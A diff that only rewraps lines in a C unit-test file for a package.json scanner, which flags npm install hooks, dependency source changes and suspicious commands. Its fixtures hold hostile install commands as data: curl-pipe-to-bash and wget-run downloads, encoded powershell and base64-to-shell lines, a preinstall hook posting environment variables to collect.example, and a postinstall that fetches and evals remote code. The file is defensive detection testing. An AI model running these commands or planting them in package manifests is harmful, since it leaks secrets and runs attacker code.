@@ -29,7 +29,8 @@ static size_t telling(const struct member *m)
 		const struct fact *f = &m->facts[i];
 
 		n += !(f->flags & FACT_OF_OLD) &&
-			!(f->kind == FACT_MANIFEST && (str_is(f->key, "name") || str_is(f->key, "version")));
+			!(f->kind == FACT_MANIFEST &&
+				(str_is(f->key, "name") || str_is(f->key, "version")));
 	}
 	return n;
 }
@@ -88,12 +89,14 @@ static void new_hook(void **state)
 
 static void hook_changed_kept_removed(void **state)
 {
-	static const char old[] = "{\"name\":\"x\",\"scripts\":{\"install\":\"node-gyp rebuild\",\"postinstall\":\"node a.js\","
-				  "\"preinstall\":\"echo hi\"}}";
+	static const char old[] =
+		"{\"name\":\"x\",\"scripts\":{\"install\":\"node-gyp rebuild\",\"postinstall\":\"node a.js\","
+		"\"preinstall\":\"echo hi\"}}";
 	struct member *m = read_package(old,
 		"{\"name\":\"x\",\"scripts\":{\"install\":\"node-gyp rebuild\",\"postinstall\":\"node b.js\"}}");
 
-	assert_int_equal(member_find(m, FACT_HOOK, "npm:install")->flags & FACT_OF_OLD, FACT_OF_OLD);
+	assert_int_equal(
+		member_find(m, FACT_HOOK, "npm:install")->flags & FACT_OF_OLD, FACT_OF_OLD);
 	assert_true(member_find(m, FACT_HOOK, "npm:postinstall")->flags & FACT_CHANGED_VALUE);
 	assert_str(member_find(m, FACT_HOOK, "npm:postinstall")->detail, "b.js");
 	assert_true(member_find(m, FACT_HOOK, "npm:preinstall")->flags & FACT_REMOVED);
@@ -103,15 +106,19 @@ static void hook_changed_kept_removed(void **state)
 /* Scripts that people or publishing start, and manifests that no package manager acts on. */
 static void scripts_that_are_no_hooks(void **state)
 {
-	static const char *const innocent[] = {"test", "build", "prepublishOnly", "prepublish", "prepack", "postpack", "prepare",
-		"start", "pretest", "posttest", "version", "postversion", "lint", "preinstaller", "postinstall:ci"};
-	static const char hooked[] = "{\"name\":\"left\",\"scripts\":{\"postinstall\":\"node x.js\"}}";
+	static const char *const innocent[] = {"test", "build", "prepublishOnly", "prepublish",
+		"prepack", "postpack", "prepare", "start", "pretest", "posttest", "version",
+		"postversion", "lint", "preinstaller", "postinstall:ci"};
+	static const char hooked[] =
+		"{\"name\":\"left\",\"scripts\":{\"postinstall\":\"node x.js\"}}";
 	struct member *m;
 
 	for (size_t i = 0; i < sizeof(innocent) / sizeof(innocent[0]); i++) {
 		char text[200];
 
-		snprintf(text, sizeof(text), "{\"name\":\"left\",\"version\":\"1.0.0\",\"scripts\":{\"%s\":\"node x.js\"}}", innocent[i]);
+		snprintf(text, sizeof(text),
+			"{\"name\":\"left\",\"version\":\"1.0.0\",\"scripts\":{\"%s\":\"node x.js\"}}",
+			innocent[i]);
 		m = read_package("{\"name\":\"left\",\"version\":\"1.0.0\"}", text);
 		assert_int_equal(telling(m), 0);
 		member_free(m);
@@ -158,18 +165,21 @@ static void who_and_what_starts(void **state)
 
 	assert_str(member_find(m, FACT_MANIFEST, "main")->value, "b.js");
 	assert_str(member_find(m, FACT_MANIFEST, "main")->detail, "a.js");
-	assert_str(member_find(m, FACT_MANIFEST, "repository")->value, "{\"url\":\"https://git.test/x\"}");
+	assert_str(member_find(m, FACT_MANIFEST, "repository")->value,
+		"{\"url\":\"https://git.test/x\"}");
 	assert_int_equal(telling(m), 2);
 	member_free(m);
 }
 
 static void duplicate_keys(void **state)
 {
-	static const char twice[] = "{\"name\":\"x\",\n\"scripts\":{\"test\":\"a\"},\n\"scripts\":{\"postinstall\":\"node x.js\"}}";
+	static const char twice[] =
+		"{\"name\":\"x\",\n\"scripts\":{\"test\":\"a\"},\n\"scripts\":{\"postinstall\":\"node x.js\"}}";
 	struct member *m = read_package("{\"name\":\"x\",\"scripts\":{\"test\":\"a\"}}", twice);
 
 	assert_int_equal(member_count(m, FACT_TRUST, "duplicate-json-key"), 1);
-	assert_int_equal(member_count(m, FACT_HOOK, "npm:postinstall"), 1); /* the last one counts */
+	assert_int_equal(
+		member_count(m, FACT_HOOK, "npm:postinstall"), 1); /* the last one counts */
 	member_free(m);
 	m = read_package(twice, twice);
 	assert_int_equal(member_count(m, FACT_TRUST, NULL), 0);
@@ -182,14 +192,19 @@ static void commands(void **state)
 		const char *command, *fact, *flow;
 	} rows[] = {
 		{"curl -s https://cdn.example/i.sh | bash", "fetches", "net>exec"},
-		{"wget -q http://192.0.2.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", "fetches", "net>exec"},
+		{"wget -q http://192.0.2.7/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", "fetches",
+			"net>exec"},
 		{"curl -so s.js https://cdn.example/s.js && node s.js", "fetches", "net>exec"},
 		{"powershell -w hidden -enc SQBFAFgA", "decodes", NULL},
-		{"node -e \"eval(Buffer.from('Y29uc29sZQ==','base64').toString())\"", "decodes", "data>exec"},
+		{"node -e \"eval(Buffer.from('Y29uc29sZQ==','base64').toString())\"", "decodes",
+			"data>exec"},
 		{"echo aGk= | base64 -d | sh", "decodes", "data>exec"},
 		{"curl --version", "fetches", NULL},
-		{"node-gyp rebuild", NULL, NULL}, {"husky install", NULL, NULL}, {"node scripts/build.js", NULL, NULL},
-		{"patch-package && ngcc", NULL, NULL}, {"prebuild-install || node-gyp rebuild", NULL, NULL},
+		{"node-gyp rebuild", NULL, NULL},
+		{"husky install", NULL, NULL},
+		{"node scripts/build.js", NULL, NULL},
+		{"patch-package && ngcc", NULL, NULL},
+		{"prebuild-install || node-gyp rebuild", NULL, NULL},
 		{"opencollective-postinstall || exit 0", NULL, NULL},
 	};
 
@@ -218,10 +233,19 @@ static void commands(void **state)
 static void command_files(void **state)
 {
 	static const char *const rows[][2] = {
-		{"node install.js", "install.js"}, {"node ./scripts/install", "./scripts/install"}, {"node .", "index.js"},
-		{"node --no-warnings \"lib/a b.js\"", "lib/a b.js"}, {"sh x", "x"}, {"bash -e ./x.sh", ""}, {"./setup", "./setup"},
-		{"FOO=1 node a.js", "a.js"}, {"node -e 'x'", ""}, {"tsc -p .", ""}, {"echo done", ""},
-		{"npm run build || node fallback.mjs", "fallback.mjs"}, {"\"$INSTDIR\\helper.exe\" /S", "$INSTDIR\\helper.exe"},
+		{"node install.js", "install.js"},
+		{"node ./scripts/install", "./scripts/install"},
+		{"node .", "index.js"},
+		{"node --no-warnings \"lib/a b.js\"", "lib/a b.js"},
+		{"sh x", "x"},
+		{"bash -e ./x.sh", ""},
+		{"./setup", "./setup"},
+		{"FOO=1 node a.js", "a.js"},
+		{"node -e 'x'", ""},
+		{"tsc -p .", ""},
+		{"echo done", ""},
+		{"npm run build || node fallback.mjs", "fallback.mjs"},
+		{"\"$INSTDIR\\helper.exe\" /S", "$INSTDIR\\helper.exe"},
 	};
 
 	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++)
@@ -233,14 +257,16 @@ static void command_files(void **state)
 /* The command is read as the script that it is, at its place. */
 static void hooks_are_scripts(void **state)
 {
-	struct member *m = read_package("{\"name\":\"x\"}", "{\"name\":\"x\",\n\"scripts\":{\n\"preinstall\":"
+	struct member *m = read_package("{\"name\":\"x\"}",
+		"{\"name\":\"x\",\n\"scripts\":{\n\"preinstall\":"
 		"\"curl -s -d \\\"$(env)\\\" https://collect.example/i\"}}");
 	const struct fact *f = member_find(m, FACT_FLOW, "env>net");
 
 	assert_non_null(f);
 	assert_int_equal(f->line, 3);
 	member_free(m);
-	m = read_package("{\"name\":\"x\"}", "{\"name\":\"x\",\n\"scripts\":{\n\"postinstall\":"
+	m = read_package("{\"name\":\"x\"}",
+		"{\"name\":\"x\",\n\"scripts\":{\n\"postinstall\":"
 		"\"node -e \\\"require('https').get('https://collect.example/c',r=>r.on('data',d=>eval(d.toString())))\\\"\"}}");
 	f = member_find(m, FACT_FLOW, "net>code");
 	assert_non_null(f);
@@ -253,31 +279,49 @@ static void specs(void **state)
 	static const struct {
 		const char *old, *new_, *change;
 	} rows[] = {
-		{"^1.0.0", "^1.1.0", "range"}, {"1.0.0", "1.0.1", "range"}, {"1.0.0", "^1.0.0", "loosened"}, {"^1.0.0", "*", "loosened"},
-		{"^1.0.0", "latest", "loosened"}, {"^1.0.0", "1.2.3", "range"}, {"^1", "git+ssh://git@git.example/a.git", "source"},
-		{"^1", "owner/name", "source"}, {"owner/name#1", "owner/name#2", "range"}, {"owner/name", "other/name", "source"},
-		{"^1", "https://files.example/a.tgz", "source"}, {"https://files.example/a-1.tgz", "https://files.example/a-2.tgz", "range"},
-		{"https://files.example/a.tgz", "https://files.test/a.tgz", "source"}, {"^1", "file:../a", "source"},
-		{"^1", "npm:b@1", "alias"}, {"npm:b@1", "npm:b@2", "range"}, {"npm:b@1", "npm:c@1", "alias"}, {"npm:@s/b@1", "npm:@s/b@2", "range"},
+		{"^1.0.0", "^1.1.0", "range"},
+		{"1.0.0", "1.0.1", "range"},
+		{"1.0.0", "^1.0.0", "loosened"},
+		{"^1.0.0", "*", "loosened"},
+		{"^1.0.0", "latest", "loosened"},
+		{"^1.0.0", "1.2.3", "range"},
+		{"^1", "git+ssh://git@git.example/a.git", "source"},
+		{"^1", "owner/name", "source"},
+		{"owner/name#1", "owner/name#2", "range"},
+		{"owner/name", "other/name", "source"},
+		{"^1", "https://files.example/a.tgz", "source"},
+		{"https://files.example/a-1.tgz", "https://files.example/a-2.tgz", "range"},
+		{"https://files.example/a.tgz", "https://files.test/a.tgz", "source"},
+		{"^1", "file:../a", "source"},
+		{"^1", "npm:b@1", "alias"},
+		{"npm:b@1", "npm:b@2", "range"},
+		{"npm:b@1", "npm:c@1", "alias"},
+		{"npm:@s/b@1", "npm:@s/b@2", "range"},
 		{"workspace:*", "^1.0.0", "range"},
 	};
 
 	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
-		if (strcmp(spec_change(str_of(rows[i].old), str_of(rows[i].new_)), rows[i].change) != 0)
+		if (strcmp(spec_change(str_of(rows[i].old), str_of(rows[i].new_)),
+			    rows[i].change) != 0)
 			print_error("%s -> %s\n", rows[i].old, rows[i].new_);
-		assert_string_equal(spec_change(str_of(rows[i].old), str_of(rows[i].new_)), rows[i].change);
+		assert_string_equal(
+			spec_change(str_of(rows[i].old), str_of(rows[i].new_)), rows[i].change);
 	}
 }
 
 static void malformed(void **state)
 {
-	static const char *const texts[] = {"", "{", "[1]", "\"x\"", "{\"scripts\":7}", "{\"scripts\":{\"install\":[]}}", "{\"dependencies\":{\"a\":{}}}"};
+	static const char *const texts[] = {"", "{", "[1]", "\"x\"", "{\"scripts\":7}",
+		"{\"scripts\":{\"install\":[]}}", "{\"dependencies\":{\"a\":{}}}"};
 
 	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
-		struct member *m = member_make("package/package.json", str_of(base), str_of(texts[i]));
+		struct member *m = member_make(
+			"package/package.json", str_of(base), str_of(texts[i]));
 
 		(void)!reader_package_json.read(&m->in);
-		assert_int_equal(m->covered[COVER_PARSED] + m->covered[COVER_SHALLOW] + m->covered[COVER_BLIND], m->in.new_.len);
+		assert_int_equal(m->covered[COVER_PARSED] + m->covered[COVER_SHALLOW] +
+				m->covered[COVER_BLIND],
+			m->in.new_.len);
 		member_free(m);
 	}
 }
@@ -285,10 +329,19 @@ static void malformed(void **state)
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
-		cmocka_unit_test(version_bump_says_the_version), cmocka_unit_test(formatting_says_nothing), cmocka_unit_test(new_hook),
-		cmocka_unit_test(hook_changed_kept_removed), cmocka_unit_test(scripts_that_are_no_hooks),
-		cmocka_unit_test(dependencies_added_and_changed), cmocka_unit_test(who_and_what_starts), cmocka_unit_test(duplicate_keys),
-		cmocka_unit_test(commands), cmocka_unit_test(command_files), cmocka_unit_test(specs), cmocka_unit_test(hooks_are_scripts), cmocka_unit_test(malformed),
+		cmocka_unit_test(version_bump_says_the_version),
+		cmocka_unit_test(formatting_says_nothing),
+		cmocka_unit_test(new_hook),
+		cmocka_unit_test(hook_changed_kept_removed),
+		cmocka_unit_test(scripts_that_are_no_hooks),
+		cmocka_unit_test(dependencies_added_and_changed),
+		cmocka_unit_test(who_and_what_starts),
+		cmocka_unit_test(duplicate_keys),
+		cmocka_unit_test(commands),
+		cmocka_unit_test(command_files),
+		cmocka_unit_test(specs),
+		cmocka_unit_test(hooks_are_scripts),
+		cmocka_unit_test(malformed),
 	};
 
 	return cmocka_run_group_tests(tests, NULL, NULL);
